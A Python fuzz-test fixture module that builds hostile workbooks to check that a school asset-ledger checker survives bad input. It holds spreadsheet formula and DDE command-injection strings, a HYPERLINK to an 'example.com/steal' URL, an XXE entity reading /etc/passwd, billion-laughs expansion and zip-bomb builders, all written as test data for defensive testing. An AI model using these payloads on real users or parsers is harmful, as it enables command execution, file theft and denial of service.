"""Hostile workbooks, made on disk, deterministically from a seed — for the fuzz suite
(tests/fuzz.py) and the hostile-input tests.

A case starts from a real ledger set (tests/ledger_set.py's consistent school, written as
.xlsx by openpyxl or XlsxWriter, as BIFF .xls, HTML and SpreadsheetML .xls, CSV; or the demo
workbooks in workbooks/) and mutates it:

- cell by cell: data cells set to values that broke the tool or might (1e308, -0, 1e-320,
  10**30, full-width digits, 9999-12-31 and 1899-12-31 in date cells, -1e308 under a date
  format, control characters, 40,000 characters, `=HYPERLINK(…)` and DDE texts, Excel error
  texts…), raw XML values no writer makes (INF, NaN), hostile sheet and file names;
- file by file: bit flips, inserted and deleted bytes, truncation, parts removed, renamed or
  doubled, shared strings out of range, DTDs with entity expansion and external entities,
  sizes that lie, zip bombs, 200 sheets, a cell at XFD1, 1,048,576 rows, cells without
  references, a package of 10,001 parts, a sheet of nearly 10 million cells (the default run budget).

Everything a case writes stays in its own folder; `Case.inputs` are the files given to the
check (their hashes are compared before and after).
"""

from __future__ import annotations

import copy
import datetime as dt
import random
import re
import shutil
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from builders import write_xls, write_xlsx
from formats import write_csv, write_html_xls, write_spreadsheet_xml
from ledger_set import consistent_sheets

REPO = Path(__file__).resolve().parent.parent
DEMO = REPO / "workbooks"

# ---- values ---------------------------------------------------------------------------------

FORMULA_TEXTS = [
    '=HYPERLINK("http://example.com/steal?x=1","click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "\t=1+1",
    " =A1",
    "=WEBSERVICE(\"http://example.com\")",
    "'=1+1",
]
HOSTILE_VALUES: list[Any] = [
    1e308, -1e308, -0.0, 1e-320, 10**30, -(10**30), 2**63, 99999999999999.0, 0.1 + 0.2,
    "１２３４５６７８９０" * 4, "１，２００．００", "1e308", "-1e999", "inf", "NaN", "Infinity", "1_000",
    "٣٤٥", "¥" * 50, "(((((1)))))", "1,2,3,4", "12.34.56",
    dt.date(9999, 12, 31), dt.datetime(1899, 12, 31), dt.date(1900, 1, 1), dt.date(2262, 4, 12),
    dt.date(1, 1, 1), "9999-12-31", "0000-00-00", "2026-02-30", "20261399", "1899-12-31",
    "a\x00b", "\x1b[31m红色\x1b[0m", "\x07\x08\x0b\x0c", "\u202e反转", "\ufeff零宽", "\u200b", "\r\n\r\n",
    "长" * 40_000, "x" * 33_000,
    *FORMULA_TEXTS,
    "#REF!", "#DIV/0!", "#N/A", "#NAME?",
    "", " ", None, True, False,
]
# Raw <v> texts for a numeric cell: what no spreadsheet program writes.
RAW_NUMBERS = ["-1e308", "1e308", "INF", "-inf", "NaN", "-0", "1e-320", "1E+30", "4.9E-324", "abc",
               "1e", "--1", "0x10", "١٢٣", "99999999999999999999999"]
# Raw <v> texts for a date-formatted cell: outside the calendar, past chrono's range.
RAW_DATES = ["-1e308", "1e308", "2958466", "-1", "-1e12", "-99999999999999", "1e15", "NaN", "INF",
             "-0.5", "0", "60", "2958465.9999999"]
SHEET_NAMES = ["'!A1", "a#b", "=cmd", "%41", "x'y", "1", "2026-11", "#REF!",
               "校验报告", "a" * 31, "\u202e表"]
FILE_NAMES = ["一#班.xlsx", "100%.xlsx", "=cmd|calc.xlsx", "a b.xlsx", "x'y.xlsx", "#.xlsx",
              "台账%23.xlsx", "-1.xlsx", "@x.xlsx", "+1.xlsx"]


@dataclass
class Case:
    """One run of the check: the inputs, and what the run may be expected to do."""

    name: str
    inputs: list[Path]
    folder: Path
    annotate: bool = False  # `annotate` the first input as well
    large: bool = False  # run in its own process, its memory measured
    expect_exit: tuple[int, ...] = (0, 1, 2)
    notes: dict[str, Any] = field(default_factory=dict)


# ---- the base ledger sets ---------------------------------------------------------------------

FORMATS = ("xlsx", "xlsxwriter", "xls", "html", "xml", "csv")


def write_set(folder: Path, sheets: dict[str, list[list[Any]]], kind: str, stem: str = "台账") -> list[Path]:
    """The sheets in one of the formats schools' files come in; CSV and HTML hold one sheet per
    file."""
    folder.mkdir(parents=True, exist_ok=True)
    if kind == "xlsx":  # openpyxl refuses control characters (XlsxWriter escapes them)
        return [write_xlsx(folder / f"{stem}.xlsx", {name: [[_openpyxl_value(v) for v in row] for row in rows]
                                                      for name, rows in sheets.items()}, engine="openpyxl")]
    if kind == "xlsxwriter":
        return [write_xlsx(folder / f"{stem}.xlsx", sheets, engine="xlsxwriter")]
    if kind == "xls":
        return [write_xls(folder / f"{stem}.xls", _biff_safe(sheets))]
    if kind == "xml":
        return [write_spreadsheet_xml(folder / f"{stem}.xls", _xml_safe(sheets))]
    out = []
    for k, (name, rows) in enumerate(sheets.items()):
        if kind == "html":
            out.append(write_html_xls(folder / f"{stem}{k}.xls", _xml_safe({name: rows})[name]))
        else:
            out.append(write_csv(folder / f"{stem}{k}.csv", _text_safe(rows)))
    return out


def _biff_safe(sheets: dict[str, list[list[Any]]]) -> dict[str, list[list[Any]]]:
    """What xlwt can write: strings of at most 32,767 characters, floats, dates from 1900."""
    def fix(v: Any) -> Any:
        if isinstance(v, str):
            return v[:32_000]
        if isinstance(v, int) and not isinstance(v, bool):
            return float(v)
        if isinstance(v, dt.date) and v.year < 1900:
            return v.isoformat()
        return v
    return {name[:31]: [[fix(v) for v in row] for row in rows] for name, rows in sheets.items()}


_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def _xml_safe(sheets: dict[str, list[list[Any]]]) -> dict[str, list[list[Any]]]:
    def fix(v: Any) -> Any:
        return _NOT_XML.sub("?", v) if isinstance(v, str) else v
    return {_NOT_XML.sub("?", name): [[fix(v) for v in row] for row in rows]
            for name, rows in sheets.items()}


def _text_safe(rows: list[list[Any]]) -> list[list[Any]]:
    return [[v.replace("\x00", "") if isinstance(v, str) else v for v in row] for row in rows]


# ---- cell-level mutations ----------------------------------------------------------------------


def data_cells(sheets: dict[str, list[list[Any]]]) -> list[tuple[str, int, int]]:
    """(sheet, row index, column index) of every data cell below a header."""
    return [(name, r, c) for name, rows in sheets.items() for r in range(1, len(rows))
            for c in range(len(rows[r]))]


def with_values(rng: random.Random, values: list[Any], count: int | None = None
                ) -> dict[str, list[list[Any]]]:
    sheets = copy.deepcopy(consistent_sheets())
    cells = data_cells(sheets)
    for name, r, c in rng.sample(cells, count or rng.randint(1, 6)):
        sheets[name][r][c] = rng.choice(values)
    return sheets


def cell_case(rng: random.Random, folder: Path, values: list[Any] | None = None) -> Case:
    kind = rng.choice(FORMATS)
    sheets = with_values(rng, values or HOSTILE_VALUES)
    inputs = write_set(folder / "in", sheets, kind)
    annotate = kind in ("xlsx", "xlsxwriter") and rng.random() < 0.4
    return Case(f"cells-{kind}", inputs, folder, annotate=annotate)


def raw_value_case(rng: random.Random, folder: Path) -> Case:
    """Numbers and dates no writer makes, put straight into the sheet XML: a placeholder number
    written with XlsxWriter (a date format where the cell holds a date), then replaced."""
    sheets = copy.deepcopy(consistent_sheets())
    swaps: dict[str, str] = {}
    for k, (name, r, c) in enumerate(rng.sample(data_cells(sheets), rng.randint(1, 5))):
        old = sheets[name][r][c]
        placeholder = dt.datetime(1977, 7, 7) + dt.timedelta(seconds=k + 1) if isinstance(
            old, dt.date) else 7_777_000 + k + 0.125
        sheets[name][r][c] = placeholder
        raw = rng.choice(RAW_DATES if isinstance(old, dt.date) else RAW_NUMBERS)
        serial = _serial(placeholder) if isinstance(placeholder, dt.datetime) else placeholder
        swaps[repr(serial)] = raw
    (folder / "in").mkdir(parents=True, exist_ok=True)
    path = write_xlsx(folder / "in" / "台账.xlsx", sheets, engine="xlsxwriter")

    def patch(name: str, data: bytes) -> bytes:
        if not name.startswith("xl/worksheets/"):
            return data
        for serial, raw in swaps.items():
            data = data.replace(f"<v>{serial}</v>".encode(), f"<v>{raw}</v>".encode())
        return data

    rewrite_zip(path, path, patch)
    return Case("raw-values", [path], folder, annotate=rng.random() < 0.4, notes={"swaps": swaps})


def _serial(moment: dt.datetime) -> float:
    delta = moment - dt.datetime(1899, 12, 30)
    return delta.days + delta.seconds / 86400


def names_case(rng: random.Random, folder: Path) -> Case:
    """A sheet called `'!A1` or `=cmd`, a file called `一#班.xlsx`: links and report cells."""
    sheets = copy.deepcopy(consistent_sheets())
    sheets = with_values(rng, HOSTILE_VALUES, 2) if rng.random() < 0.5 else sheets
    old = rng.choice(list(sheets))
    renamed = {(rng.choice(SHEET_NAMES) if name == old else name): rows for name, rows in sheets.items()}
    (folder / "in").mkdir(parents=True, exist_ok=True)
    path = folder / "in" / rng.choice(FILE_NAMES)
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, rows in renamed.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append([_openpyxl_value(v) for v in row])
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text stays text in the ledger too
    book.save(path)
    return Case("names", [path], folder, annotate=True)


_OPENPYXL_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _openpyxl_value(v: Any) -> Any:
    if isinstance(v, str):
        return _OPENPYXL_ILLEGAL.sub("", v)
    if isinstance(v, int) and not isinstance(v, bool) and abs(v) >= 2**53:
        return float(v)
    return v


# ---- file-level mutations ----------------------------------------------------------------------


def rewrite_zip(source: Path, target: Path, patch: Callable[[str, bytes], bytes | None],
                extra: list[tuple[str, bytes]] = ()) -> Path:
    """The package with each part passed through patch (None drops it), plus extra parts."""
    with zipfile.ZipFile(source) as zin:
        parts = [(info.filename, zin.read(info.filename)) for info in zin.infolist()]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            new = patch(name, data)
            if new is not None:
                zout.writestr(name, new)
        for name, data in extra:
            zout.writestr(name, data)
    return target


def byte_case(rng: random.Random, folder: Path, base: Path) -> Case:
    """Bit flips, inserted or deleted bytes, or a truncation, anywhere in a real file."""
    data = bytearray(base.read_bytes())
    how = rng.choice(["flip", "flip", "insert", "delete", "truncate", "overwrite"])
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(data))
        if how == "flip":
            data[at] ^= 1 << rng.randrange(8)
        elif how == "insert":
            data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 8)))
        elif how == "delete":
            del data[at:at + rng.randint(1, 8)]
        elif how == "overwrite":
            data[at:at + 4] = bytes(rng.randrange(256) for _ in range(4))
        else:
            del data[rng.randrange(1, len(data)):]
            break
    path = folder / "in" / base.name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(bytes(data))
    return Case(f"bytes-{how}-{base.suffix}", [path], folder)


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10)) + b"]>")
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def zip_case(rng: random.Random, folder: Path, base: Path) -> Case:
    """A package with a part removed, renamed, doubled, or carrying an entity expansion, a
    shared string index out of range, a dimension that lies, cells without references."""
    with zipfile.ZipFile(base) as zf:
        names = zf.namelist()
    how = rng.choice(["remove", "rename", "double", "laughs", "xxe", "strings", "dimension",
                      "refless", "prefix", "empty-part", "garbage-part"])
    victim = rng.choice([n for n in names if n.endswith(".xml") or n.endswith(".rels")])
    sheet = rng.choice([n for n in names if n.startswith("xl/worksheets/sheet")] or [victim])
    extra: list[tuple[str, bytes]] = []

    def patch(name: str, data: bytes) -> bytes | None:
        if how == "remove" and name == victim:
            return None
        if how == "double" and name == victim:
            extra.append((name, data))
        if how in ("laughs", "xxe") and name == victim:
            declaration = BILLION_LAUGHS if how == "laughs" else EXTERNAL_ENTITY
            body = re.sub(rb"^<\?xml[^>]*\?>", b"", data)
            entity = b"&lol9;" if how == "laughs" else b"&xxe;"
            body = re.sub(rb"(<t[^>]*>)", rb"\1" + entity, body, count=1)
            return declaration + body
        if how == "strings" and name == sheet:
            return re.sub(rb'(t="s"[^>]*><v>)\d+', rb"\g<1>" + str(rng.choice([99_999_999, -1, 4294967296])).encode(),
                          data, count=3)
        if how == "dimension" and name == sheet:
            return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
        if how == "refless" and name == sheet:
            return re.sub(rb'(<c) r="[A-Z]+\d+"', rb"\1", data)
        if how == "prefix" and name == sheet:
            return data.replace(b"<c ", b"<x:c ").replace(b"</c>", b"</x:c>").replace(
                b"<worksheet ", b'<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ')
        if how == "empty-part" and name == victim:
            return b""
        if how == "garbage-part" and name == victim:
            return bytes(rng.randrange(256) for _ in range(200))
        return data

    path = folder / "in" / base.name
    path.parent.mkdir(parents=True, exist_ok=True)
    rewrite_zip(base, path, patch)
    if how == "rename":
        renamed = folder / "in" / ("renamed-" + base.name)
        rewrite_zip(path, renamed, lambda name, data: data if name != victim else None,
                    [(victim.replace(".xml", "2.xml"), zipfile.ZipFile(path).read(victim))])
        path.unlink()
        path = renamed
    if how == "double":  # zipfile warns but writes the second copy
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            rewrite_zip(path, path, lambda name, data: data, extra)
    return Case(f"zip-{how}", [path], folder)


# ---- large and shaped packages ---------------------------------------------------------------


def sheet_xml(rows: str, dimension: str = "A1") -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>').encode()


def package(path: Path, sheets: list[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED,
            level: int | None = None, extra: list[tuple[str, bytes]] = ()) -> Path:
    """A minimal valid .xlsx of the given sheet parts (name, XML)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1))
    content_types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                     f"{overrides}</Types>")
    root_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                 "</Relationships>")
    from xml.sax.saxutils import quoteattr

    entries = "".join(f"<sheet name={quoteattr(name)} sheetId=\"{i}\" r:id=\"rId{i}\"/>"
                      for i, (name, _) in enumerate(sheets, start=1))
    workbook = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                f"<sheets>{entries}</sheets></workbook>")
    rels = "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                   f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(sheets) + 1))
    workbook_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     f"{rels}</Relationships>")
    with zipfile.ZipFile(path, "w", compress, compresslevel=level) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", root_rels)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        for i, (_, xml) in enumerate(sheets, start=1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        for name, data in extra:
            zf.writestr(name, data)
    return path


def _header_cells() -> str:
    header = ["资产编号", "资产名称", "资产分类", "数量", "单价", "原值", "取得日期", "使用部门"]
    cols = "ABCDEFGH"
    return "".join(f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>' for c, h in zip(cols, header, strict=True))


def shaped_case(rng: random.Random, folder: Path, shape: str | None = None) -> Case:
    """The packages of the issue's list: 200 sheets, a cell at XFD1, the last row, 1,048,576
    rows, a sheet of nearly 10 million cells, zip bombs, too many parts."""
    shape = shape or rng.choice(["200-sheets", "xfd", "last-row", "sparse-corners", "many-parts",
                                 "bomb-declared", "bomb-lying", "deep-xml", "long-string",
                                 "many-strings"])
    path = folder / "in" / f"{shape}.xlsx"
    large = False
    expect: tuple[int, ...] = (0, 1, 2)
    header_row = f'<row r="1">{_header_cells()}</row>'
    if shape == "200-sheets":
        sheets = [(f"第{i}页", sheet_xml(header_row + f'<row r="2"><c r="A2" t="inlineStr"><is><t>A{i:03d}</t></is></c>'
                                           f'<c r="D2"><v>1</v></c><c r="E2"><v>{1000 + i}</v></c></row>'))
                  for i in range(200)]
        package(path, sheets)
    elif shape == "xfd":
        package(path, [("台账", sheet_xml(header_row + '<row r="2"><c r="XFD2"><v>1</v></c></row>'))])
    elif shape == "last-row":
        package(path, [("台账", sheet_xml(header_row + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))])
    elif shape == "sparse-corners":  # 17 billion cells if calamine were let at it
        package(path, [("台账", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>'
                                        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'))])
        expect = (2,)
    elif shape == "many-parts":
        package(path, [("台账", sheet_xml(header_row))], extra=[(f"xl/media/x{i}.bin", b"") for i in range(10_001)])
        expect = (2,)
    elif shape == "bomb-declared":  # 600 MB of one byte in a part: refused by its declared size
        large = True
        _bomb(path, 600 * 1024 * 1024, honest=True)
        expect = (2,)
    elif shape == "bomb-lying":  # the same stream under a header that says 1 KB
        large = True
        _bomb(path, 300 * 1024 * 1024, honest=False)
        expect = (2,)
    elif shape == "deep-xml":
        deep = "<x>" * 200_000 + "</x>" * 200_000
        package(path, [("台账", sheet_xml(header_row).replace(b"<sheetData>", b"<sheetData>" + deep.encode()))])
    elif shape == "long-string":
        text = "长" * 5_000_000
        package(path, [("台账", sheet_xml(header_row + f'<row r="2"><c r="B2" t="inlineStr"><is><t>{text}</t></is></c></row>'))])
    else:  # many-strings
        rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>A{r}{"长" * (r % 50)}</t></is></c><c r="D{r}"><v>1</v></c>'
                       f'<c r="E{r}"><v>{r}</v></c></row>' for r in range(2, 60_000))
        package(path, [("台账", sheet_xml(header_row + rows))])
    return Case(f"shape-{shape}", [path], folder, large=large, expect_exit=expect)


def _bomb(path: Path, size: int, honest: bool) -> None:
    """A sheet part of `size` bytes of spaces inside a valid sheet (deflate: ~1,000×)."""
    head = sheet_xml(f'<row r="1">{_header_cells()}</row>').replace(b"</sheetData>", b"")
    tail = b"</sheetData></worksheet>"
    package(path, [("台账", head + tail)])
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    body = [compressor.compress(head)]
    left = size
    while left > 0:
        body.append(compressor.compress(chunk[:min(left, len(chunk))]))
        left -= len(chunk)
    body.append(compressor.compress(tail))
    body.append(compressor.flush())
    stream = b"".join(body)
    declared = size + len(head) + len(tail) if honest else 1024
    crc = zlib.crc32(head)
    if honest:
        for _ in range(size // len(chunk)):
            crc = zlib.crc32(chunk, crc)
        crc = zlib.crc32(chunk[:size % len(chunk)], crc)
        crc = zlib.crc32(tail, crc)
    _replace_part(path, "xl/worksheets/sheet1.xml", stream, declared, crc)


def _replace_part(path: Path, name: str, stream: bytes, declared: int, crc: int) -> None:
    """Put a raw deflate stream in as the part, its header declaring what it is told to."""
    import struct

    with zipfile.ZipFile(path) as zf:
        parts = [(i, zf.read(i.filename)) for i in zf.infolist()]
    out = bytearray()
    central = bytearray()
    for info, data in parts:
        if info.filename == name:
            raw, size, sum_ = stream, declared, crc
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            raw = compressor.compress(data) + compressor.flush()
            size, sum_ = len(data), zlib.crc32(data)
        encoded = info.filename.encode()
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, sum_, len(raw), size, len(encoded), 0)
        out += encoded + raw
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, sum_, len(raw), size,
                               len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))


def big_sheet_case(folder: Path, rows: int = 499_999, cols: int = 20) -> Case:
    """A sheet whose used rectangle is `rows` × `cols` (a cell at each end of every 1,000th
    row): just under the default 10-million-cell limit — the largest a check lets through."""
    last = _column(cols)
    body = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="{last}{r}"><v>1</v></c></row>'
                   for r in range(1, rows + 1, 1000))
    body += f'<row r="{rows}"><c r="A{rows}"><v>{rows}</v></c></row>'
    path = package(folder / "in" / "大表.xlsx", [("台账", sheet_xml(body, f"A1:{last}{rows}"))])
    return Case(f"big-{rows}x{cols}", [path], folder, large=True)


def string_bomb_case(folder: Path, rows: int = 1_000_000, length: int = 300) -> Case:
    """Two cells a row, all pointing at one shared string of `length` characters: a 7 MB file
    that calamine and Python would copy into 3.4 GiB (text_cost.py charges it; refused)."""
    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           f'count="1" uniqueCount="1"><si><t>{"长" * length}</t></si></sst>').encode()
    body = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c><c r="B{r}" t="s"><v>0</v></c></row>'
                   for r in range(1, rows + 1))
    path = package(folder / "in" / "长文字.xlsx", [("台账", sheet_xml(body, f"A1:B{rows}"))],
                   extra=[("xl/sharedStrings.xml", sst)])

    def patch(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                                b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        return data

    rewrite_zip(path, path, patch)
    return Case(f"string-bomb-{rows * 2}x{length}", [path], folder, large=True, expect_exit=(2,))


def dense_register_case(folder: Path, rows: int = 620_000) -> Case:
    """The largest input the defaults let through: a register of 16 columns × `rows` records
    (620,000: 9.9 million cells), every cell written, texts inline as a system exports them."""
    from builders import FA_HEADER

    cols = [_column(i + 1) for i in range(len(FA_HEADER))]

    def s(ref: str, text: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    def n(ref: str, value: int) -> str:
        return f'<c r="{ref}"><v>{value}</v></c>'

    parts = ['<row r="1">' + "".join(s(f"{c}1", h) for c, h in zip(cols, FA_HEADER, strict=True)) + "</row>"]
    names = ["台式电脑", "投影仪", "钢琴", "办公桌", "空调"]
    classes = ["通用设备", "通用设备", "专用设备", "家具、用具、装具及动植物", "通用设备"]
    for r in range(2, rows + 2):
        k, quantity, price = r % 5, 1 + r % 3, 1000 + (r % 97) * 10
        parts.append(f'<row r="{r}">' + "".join([
            s(f"A{r}", f"Z{r:07d}"), s(f"B{r}", names[k]), s(f"C{r}", classes[k]), s(f"D{r}", "M720"),
            s(f"E{r}", "台"), n(f"F{r}", quantity), n(f"G{r}", price), n(f"H{r}", quantity * price),
            s(f"I{r}", f"2024-{1 + r % 12:02d}-{1 + r % 28:02d}"), s(f"J{r}", "教务处"),
            s(f"K{r}", "二楼办公室"), s(f"L{r}", "张老师"), s(f"M{r}", "在用"), n(f"N{r}", 0),
            n(f"O{r}", quantity * price), s(f"P{r}", "" if r % 10 else "备注")]) + "</row>")
    xml = sheet_xml("".join(parts), f"A1:P{rows + 1}")
    del parts
    path = package(folder / "in" / "资产台账.xlsx", [("资产台账", xml)])
    return Case(f"register-{rows + 1}x16", [path], folder, large=True, expect_exit=(0, 1))


def _column(n: int) -> str:
    letters = ""
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def dense_rows_case(folder: Path, rows: int = 1_048_576) -> Case:
    """Every row of a sheet used, in column A: 1,048,576 rows the check must read."""
    body = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, rows + 1))
    path = package(folder / "in" / "满行.xlsx", [("台账", sheet_xml(body, f"A1:A{rows}"))])
    return Case(f"rows-{rows}", [path], folder, large=True)


def demo_files() -> list[Path]:
    return sorted(p for p in DEMO.rglob("*") if p.suffix.lower() in (".xlsx", ".xlsm", ".xls"))


def copy_in(paths: list[Path], folder: Path) -> list[Path]:
    (folder / "in").mkdir(parents=True, exist_ok=True)
    out = []
    for p in paths:
        shutil.copy(p, folder / "in" / p.name)
        out.append(folder / "in" / p.name)
    return out
